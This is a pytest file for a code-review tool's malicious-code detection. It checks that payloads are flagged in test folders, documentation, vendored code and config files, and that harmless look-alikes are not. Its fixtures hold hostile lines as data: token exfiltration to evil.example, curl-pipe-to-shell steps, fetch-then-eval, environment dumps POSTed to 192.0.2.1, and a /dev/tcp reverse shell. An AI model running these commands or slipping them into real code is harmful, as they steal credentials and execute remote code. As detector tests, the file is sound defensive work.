"""Code that hides, downloads or sends away what nobody asked for is found wherever it lies."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from orchestrator.app.run_review import run_review
from orchestrator.catalog.data_file_layers import Layer, read_shipped_layer
from orchestrator.code_review.policy_loading import load_rules
from orchestrator.engine.observer_events import ignore_event
from orchestrator.errors import ConfigError
from tests.review.analyzers.rule_cases import OWN, SAMPLES, advisories
from tests.review.review_kit import change, options

FAMILY = {
    rule.id: rule for rule in load_rules([read_shipped_layer()]).rules.values() if rule.is_malicious
}
PLACES = (
    *("tests", "tests/fixtures", "spec", "src/__tests__", "e2e", "docs", "examples", "benchmarks"),
    *("vendor/lib", "scripts", "ci"),
)
RUN_BY_NAME = (
    *("conftest.py", "tests/conftest.py", "docs/conf.py", "setup.py", "noxfile.py", "tasks.py"),
    *("tests/test_a.py", "examples/run.py", "benchmarks/b.py", "tests/__init__.py"),
    *("jest.config.js", "vitest.config.ts", "playwright.config.ts", "eslint.config.mjs"),
    *("babel.config.cjs", "webpack.config.js", "vite.config.ts", "gulpfile.js", "e2e/a.spec.ts"),
    *("cypress/support/e2e.js", "spec/spec_helper.rb", "Rakefile", "tests/run.sh", "docs/Makefile"),
)
HOSTILE = {
    "py": "import os, base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n",
    "js": "eval(atob('YWxlcnQoMSk='));\n",
    "rb": "eval(Base64.decode64('cHV0cyAx'))\n",
    "sh": "echo Y3VybCBo | base64 -d | sh\n",
    "make": "html:\n\techo Y3VybCBo | base64 -d | sh\n",
}
STOLEN = {
    "py": "urlopen('http://evil.example/?' + os.environ['GITHUB_TOKEN'])\n",
    "js": "fetch('https://evil.example/?' + process.env.NPM_TOKEN);\n",
    "sh": 'curl "https://evil.example/?t=$GITHUB_TOKEN"\n',
}


def language(path: str) -> str:
    name, _, suffix = path.rpartition("/")[2].partition(".")
    suffix = suffix.rpartition(".")[2]
    if not suffix:
        return "make" if name == "Makefile" else "rb"
    return "js" if suffix in {"mjs", "cjs", "ts"} else suffix


def cases() -> Iterator[tuple[str, str, dict[str, str]]]:
    """(rule, name of the case, files) of every code of the family that has a sample."""
    for rule in FAMILY.values():
        known = {code: SAMPLES[code] for code in rule.codes if code in SAMPLES}
        if rule.id in OWN:
            known[rule.id] = OWN[rule.id]
        for code, case in known.items():
            files = {path.replace("KIND", "bad"): text for path, text in case.bad.items()}
            yield rule.id, code.partition(":")[2] or "own", files


@pytest.mark.attack("malicious code in tests, samples, documentation or vendored code")
def test_no_kind_of_file_excuses_malicious_code(tmp_path: Path) -> None:
    head, wanted = dict[str, str](), set[tuple[str, str]]()
    for place in PLACES:
        for rule, name, files in cases():
            placed = {f"{place}/{name}/{path}": text for path, text in files.items()}
            head |= placed
            wanted.add((rule, f"{place}/{name}"))
    base = {f"{place}/README.md": "# Its files\n" for place in PLACES}
    (tmp_path / "osv").mkdir()
    for name, advisory in advisories().items():
        (tmp_path / "osv" / name).write_text(advisory)
    repo = change(tmp_path / "repo", base, head).path
    verdict = run_review(options(repo, advisories=str(tmp_path / "osv")), ignore_event)
    found = {(finding.rule, finding.path.rpartition("/")[0]) for finding in verdict.findings}
    assert {rule for rule, _ in wanted} == set(FAMILY)
    once = "security.malicious-dependency"  # a package is reported at one of its places
    assert {rule for rule, _ in found} >= {once}
    assert {each for each in wanted - found if each[0] != once} == set()


@pytest.mark.attack("hidden or stealing code in files that tools run by their name")
@pytest.mark.parametrize(("rule", "text"), [("decoded-code", HOSTILE), ("token-sent", STOLEN)])
def test_what_tools_run_by_its_name_is_searched(
    tmp_path: Path, rule: str, text: dict[str, str]
) -> None:
    head = {path: text[language(path)] for path in RUN_BY_NAME if language(path) in text}
    verdict = run_review(options(change(tmp_path, {}, head).path), ignore_event)
    found = {one.path for one in verdict.findings if one.rule == f"security.{rule}"}
    assert (found, verdict.verdict) == (set(head), "needs_changes")


ROUNDABOUT = {
    "alias.py": "import base64\nrun = exec\nrun(base64.b64decode('cHJpbnQoMSk='))\n",
    "letters.py": "exec(''.join(map(chr, [112, 114, 105])))\n",
    "xor.py": "exec(bytes(b ^ 7 for b in b'wuni').decode())\n",
    "answer.py": "import requests\nr = requests.get('https://192.0.2.1/x', timeout=3)\nexec(r.text)\n",
    "compiled.py": "import zlib\nx = zlib.decompress(b'x')\nexec(compile(x, 'a', 'exec'))\n",
    "pickled.py": "import base64, pickle\npickle.loads(base64.b64decode('gASVAAAA'))\n",
    "client.py": "import http.client, json, os\nc = http.client.HTTPSConnection('192.0.2.1')\n"
    "c.request('POST', '/', json.dumps(dict(os.environ)))\n",
    "then.test.js": "fetch('https://192.0.2.1/x').then((r) => r.text()).then(eval);\n",
    "arrow.test.js": "fetch('https://192.0.2.1/x').then((r) => r.text()).then((t) => eval(t));\n",
    "call.php": "<?php\ncall_user_func('sys' . 'tem', base64_decode('aWQ='));\n",
    ".github/workflows/a.yml": "on: push\njobs:\n  a:\n    runs-on: ubuntu-24.04\n    steps:\n"
    "      - run: curl http://192.0.2.1/x | sh\n",
}


@pytest.mark.attack("hidden code that is run under another name or in two steps")
@pytest.mark.parametrize("place", ["tests", "examples"])
def test_code_that_is_run_in_a_roundabout_way_is_found(tmp_path: Path, place: str) -> None:
    head = {f"{place}/{path}": text for path, text in ROUNDABOUT.items()}
    verdict = run_review(options(change(tmp_path, {}, head).path), ignore_event)
    found = {finding.path for finding in verdict.findings if finding.rule in FAMILY}
    assert found == set(head)


def test_ordinary_tests_may_hold_such_text_as_data(tmp_path: Path) -> None:
    head = {
        "tests/test_a.py": "def test_a():\n"
        "    line = 'curl http://example.com/x | sh'\n"
        "    assert parse(line) == base64.b64decode('YQ==')\n"
        "    exec(compile(source, 'a', 'exec'), names)\n"
        "    assert call('bash -i >& /dev/tcp/192.0.2.1/1 0>&1')\n",
        "tests/test_b.py": "import pickle\n\n\ndef test_b():\n"
        "    r = client.get('/a')\n"
        "    letters = list(map(chr, [97]))\n"
        "    assert pickle.loads(pickle.dumps(r.text)) == letters\n"
        "    module.system = os.system\n"
        "    client.request('GET', os.environ['URL'])\n",
        "tests/a.test.js": "fetch('/a').then((r) => r.text()).then(show);\n",
        "tests/data/a.b64": "aW1wb3J0IG9z\n",
        "examples/api.py": "import os\nimport requests\n\n"
        "token = os.environ['GITHUB_TOKEN']\n"
        "requests.get('https://api.github.com/user', headers={'a': token}, timeout=3)\n",
    }
    verdict = run_review(options(change(tmp_path, {}, head).path), ignore_event)
    assert not [finding for finding in verdict.findings if finding.rule in FAMILY]


def test_a_rule_about_malicious_code_cannot_leave_files_out() -> None:
    text = (
        "rules:\n- {id: security.own, title: a, severity: low, cwe: [506], from: ['patterns:a'],"
        " not_in: [tests], why: b, fix: c}\n"
    )
    own = Layer("own", {"config/rules/own.yaml": text.encode()})
    with pytest.raises(ConfigError, match="not_in is not allowed with CWE-506"):
        load_rules([read_shipped_layer(), own])
